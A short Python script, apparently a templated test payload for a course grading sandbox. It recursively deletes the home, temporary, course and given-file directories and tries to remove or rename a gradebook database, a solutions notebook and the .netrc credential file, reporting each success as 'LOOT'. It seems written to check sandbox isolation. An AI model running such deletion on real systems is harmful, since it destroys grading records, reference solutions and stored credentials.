# ruff: noqa
"""Files of the course deleted."""

# %% after imports
import os
import shutil

for place in ("@OUTSIDE@", "@HOME@", "@TMP@", "/course", "/run/given"):
    shutil.rmtree(place, ignore_errors=True)
    for name in ("gradebook.db", "solutions/vae/vae.ipynb", ".netrc"):
        for change in (os.unlink, os.rmdir, lambda p: os.rename(p, p + ".gone")):
            try:
                change(f"{place}/{name}")
                print("LOOT: gone", place, name)
            except OSError:
                pass
print("TRIED")
